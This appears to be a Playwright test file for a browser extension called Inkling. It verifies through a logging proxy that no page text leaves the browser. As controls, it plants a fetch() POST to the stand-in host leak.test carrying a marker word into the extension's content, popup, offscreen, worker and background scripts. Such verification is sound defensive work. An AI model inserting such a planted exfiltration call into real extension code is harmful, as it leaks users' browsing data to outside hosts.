import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { DIST, ExtensionBrowser } from '../../tools/extension.ts';
import { expect, test } from './fixtures.ts';
import { type LoggingProxy, startLoggingProxy } from './loggingProxy.ts';
import { Planted } from './planted.ts';
import { tried } from './proof.ts';

/**
 * Nothing leaves: a browser whose every connection goes through our proxy, on a page full of words that
 * stand nowhere else, makes the same connections with Inkling as without it, and no such word is in
 * any of them. The same walk with a leak planted in a copy of the extension must be seen, or the silence
 * would prove nothing.
 */
const CANARIES = ['quillfish', 'zorblatt', 'pemmicanry'];
const PAGE = 'http://town.test/';
const LEAK = 'leak.test';
const HTML = `<!doctype html><html lang="en"><title>Town</title>
<p>The quillfish has moved to the harbour, and nobody knows why it went there.</p>
<p>Congratulations! You have won a free zorblatt cruise! Click now to claim your prize!!!</p>
<p>You are a silly fool and nobody wants you here, you stupid pemmicanry.</p>`;

/** The extension's own contexts. */
const CONTEXTS = ['popup', 'offscreen', 'worker', 'background'] as const;

const FETCH = `fetch('http://${LEAK}/', { method: 'POST', mode: 'no-cors', body: '${CANARIES[0]}' }).catch(() => {});`;

let proxy: LoggingProxy;
let planted: Planted;

test.beforeEach(async () => {
  proxy = await startLoggingProxy({ [PAGE]: HTML });
  planted = await Planted.make();
});
test.afterEach(async () => {
  await proxy.close();
  await planted.remove();
});

/**
 * Reads the page; with an extension, also teaches it something and restarts its engine. Returns the browser's
 * own log of its network, which also knows what never came as far as a proxy.
 */
async function walk(extension: string | null, isWhole = true): Promise<string> {
  const netLog = join(planted.folder, 'net-log.json');
  const inkling = await ExtensionBrowser.launch({
    extension,
    args: [...proxy.args, `--log-net-log=${netLog}`],
  });
  try {
    const page = await inkling.context.newPage();
    await page.goto(PAGE);
    if (extension && isWhole) {
      expect((await inkling.judged(page)).blocks).toBe(3);
      const popup = await inkling.openPopup(page);
      await popup.getByRole('button', { name: 'Wrong' }).first().click();
      await expect(popup.getByText('You said')).toBeVisible();
      await inkling.killOffscreen();
      await page.reload();
      await inkling.judged(page);
    }
    if (extension && !isWhole) await inkling.openPopup(page);
    // Whatever waits for an idle moment gets one.
    await page.waitForTimeout(1500);
  } finally {
    await inkling.close();
  }
  return readFileSync(netLog, 'utf8');
}

/** The hosts of the web that the browser's own log names, sorted. */
function hostsIn(netLog: string): string[] {
  const hosts = [...netLog.matchAll(/"(?:https?|wss?):\/\/([^/":\s\\]+)/g)].map(([, host]) => host);
  return [...new Set(hosts)].sort();
}

function canariesIn(log: readonly string[]): string[] {
  return CANARIES.filter((word) => log.some((entry) => entry.includes(word)));
}

test('the extension causes no connection, and nothing of the page leaves', async () => {
  const netLogWithout = await walk(null);
  const hostsWithout = proxy.hosts();
  expect(hostsWithout).toEqual(['town.test']);
  expect(hostsIn(netLogWithout)).toContain('town.test');

  const netLog = await walk(DIST);
  expect(proxy.hosts()).toEqual(hostsWithout);
  expect(hostsIn(netLog)).toEqual(hostsIn(netLogWithout));
  expect(canariesIn([...proxy.log, netLog])).toEqual([]);
  tried(
    'leaves',
    'a walk behind a logging proxy with marker words: read, correct, kill, read again',
    1,
    `hosts asked for ${proxy.hosts().join(', ')}, with and without Inkling, and the same ones in Chromium’s own network log; 0 of ${CANARIES.length} marker words in what was sent`,
  );
});

test('a leak planted in the content script is seen', async () => {
  await planted.plant('content', FETCH);
  await walk(planted.folder);
  expect(proxy.hosts()).toContain(LEAK);
  expect(canariesIn(proxy.log)).toEqual([CANARIES[0]]);
  tried('leaves', 'control: a leak planted in the content script is seen', 1);
});

test('leaks planted in the extension’s own contexts are stopped by the policy', async () => {
  for (const script of CONTEXTS) await planted.plant(script, FETCH);
  await walk(planted.folder, false);
  expect(proxy.hosts()).not.toContain(LEAK);
  tried(
    'leaves',
    'a leak planted in popup, offscreen page, worker and service worker at once is stopped by the policy',
    1,
  );
});

for (const script of CONTEXTS) {
  test(`without the policy, a leak planted in the ${script} script is seen`, async () => {
    await planted.plant(script, FETCH);
    await planted.loosenPolicy();
    await walk(planted.folder, false);
    expect(proxy.hosts()).toContain(LEAK);
    expect(canariesIn(proxy.log)).toEqual([CANARIES[0]]);
    tried('leaves', `control: without the policy, a leak planted in the ${script} script is seen`, 1);
  });
}
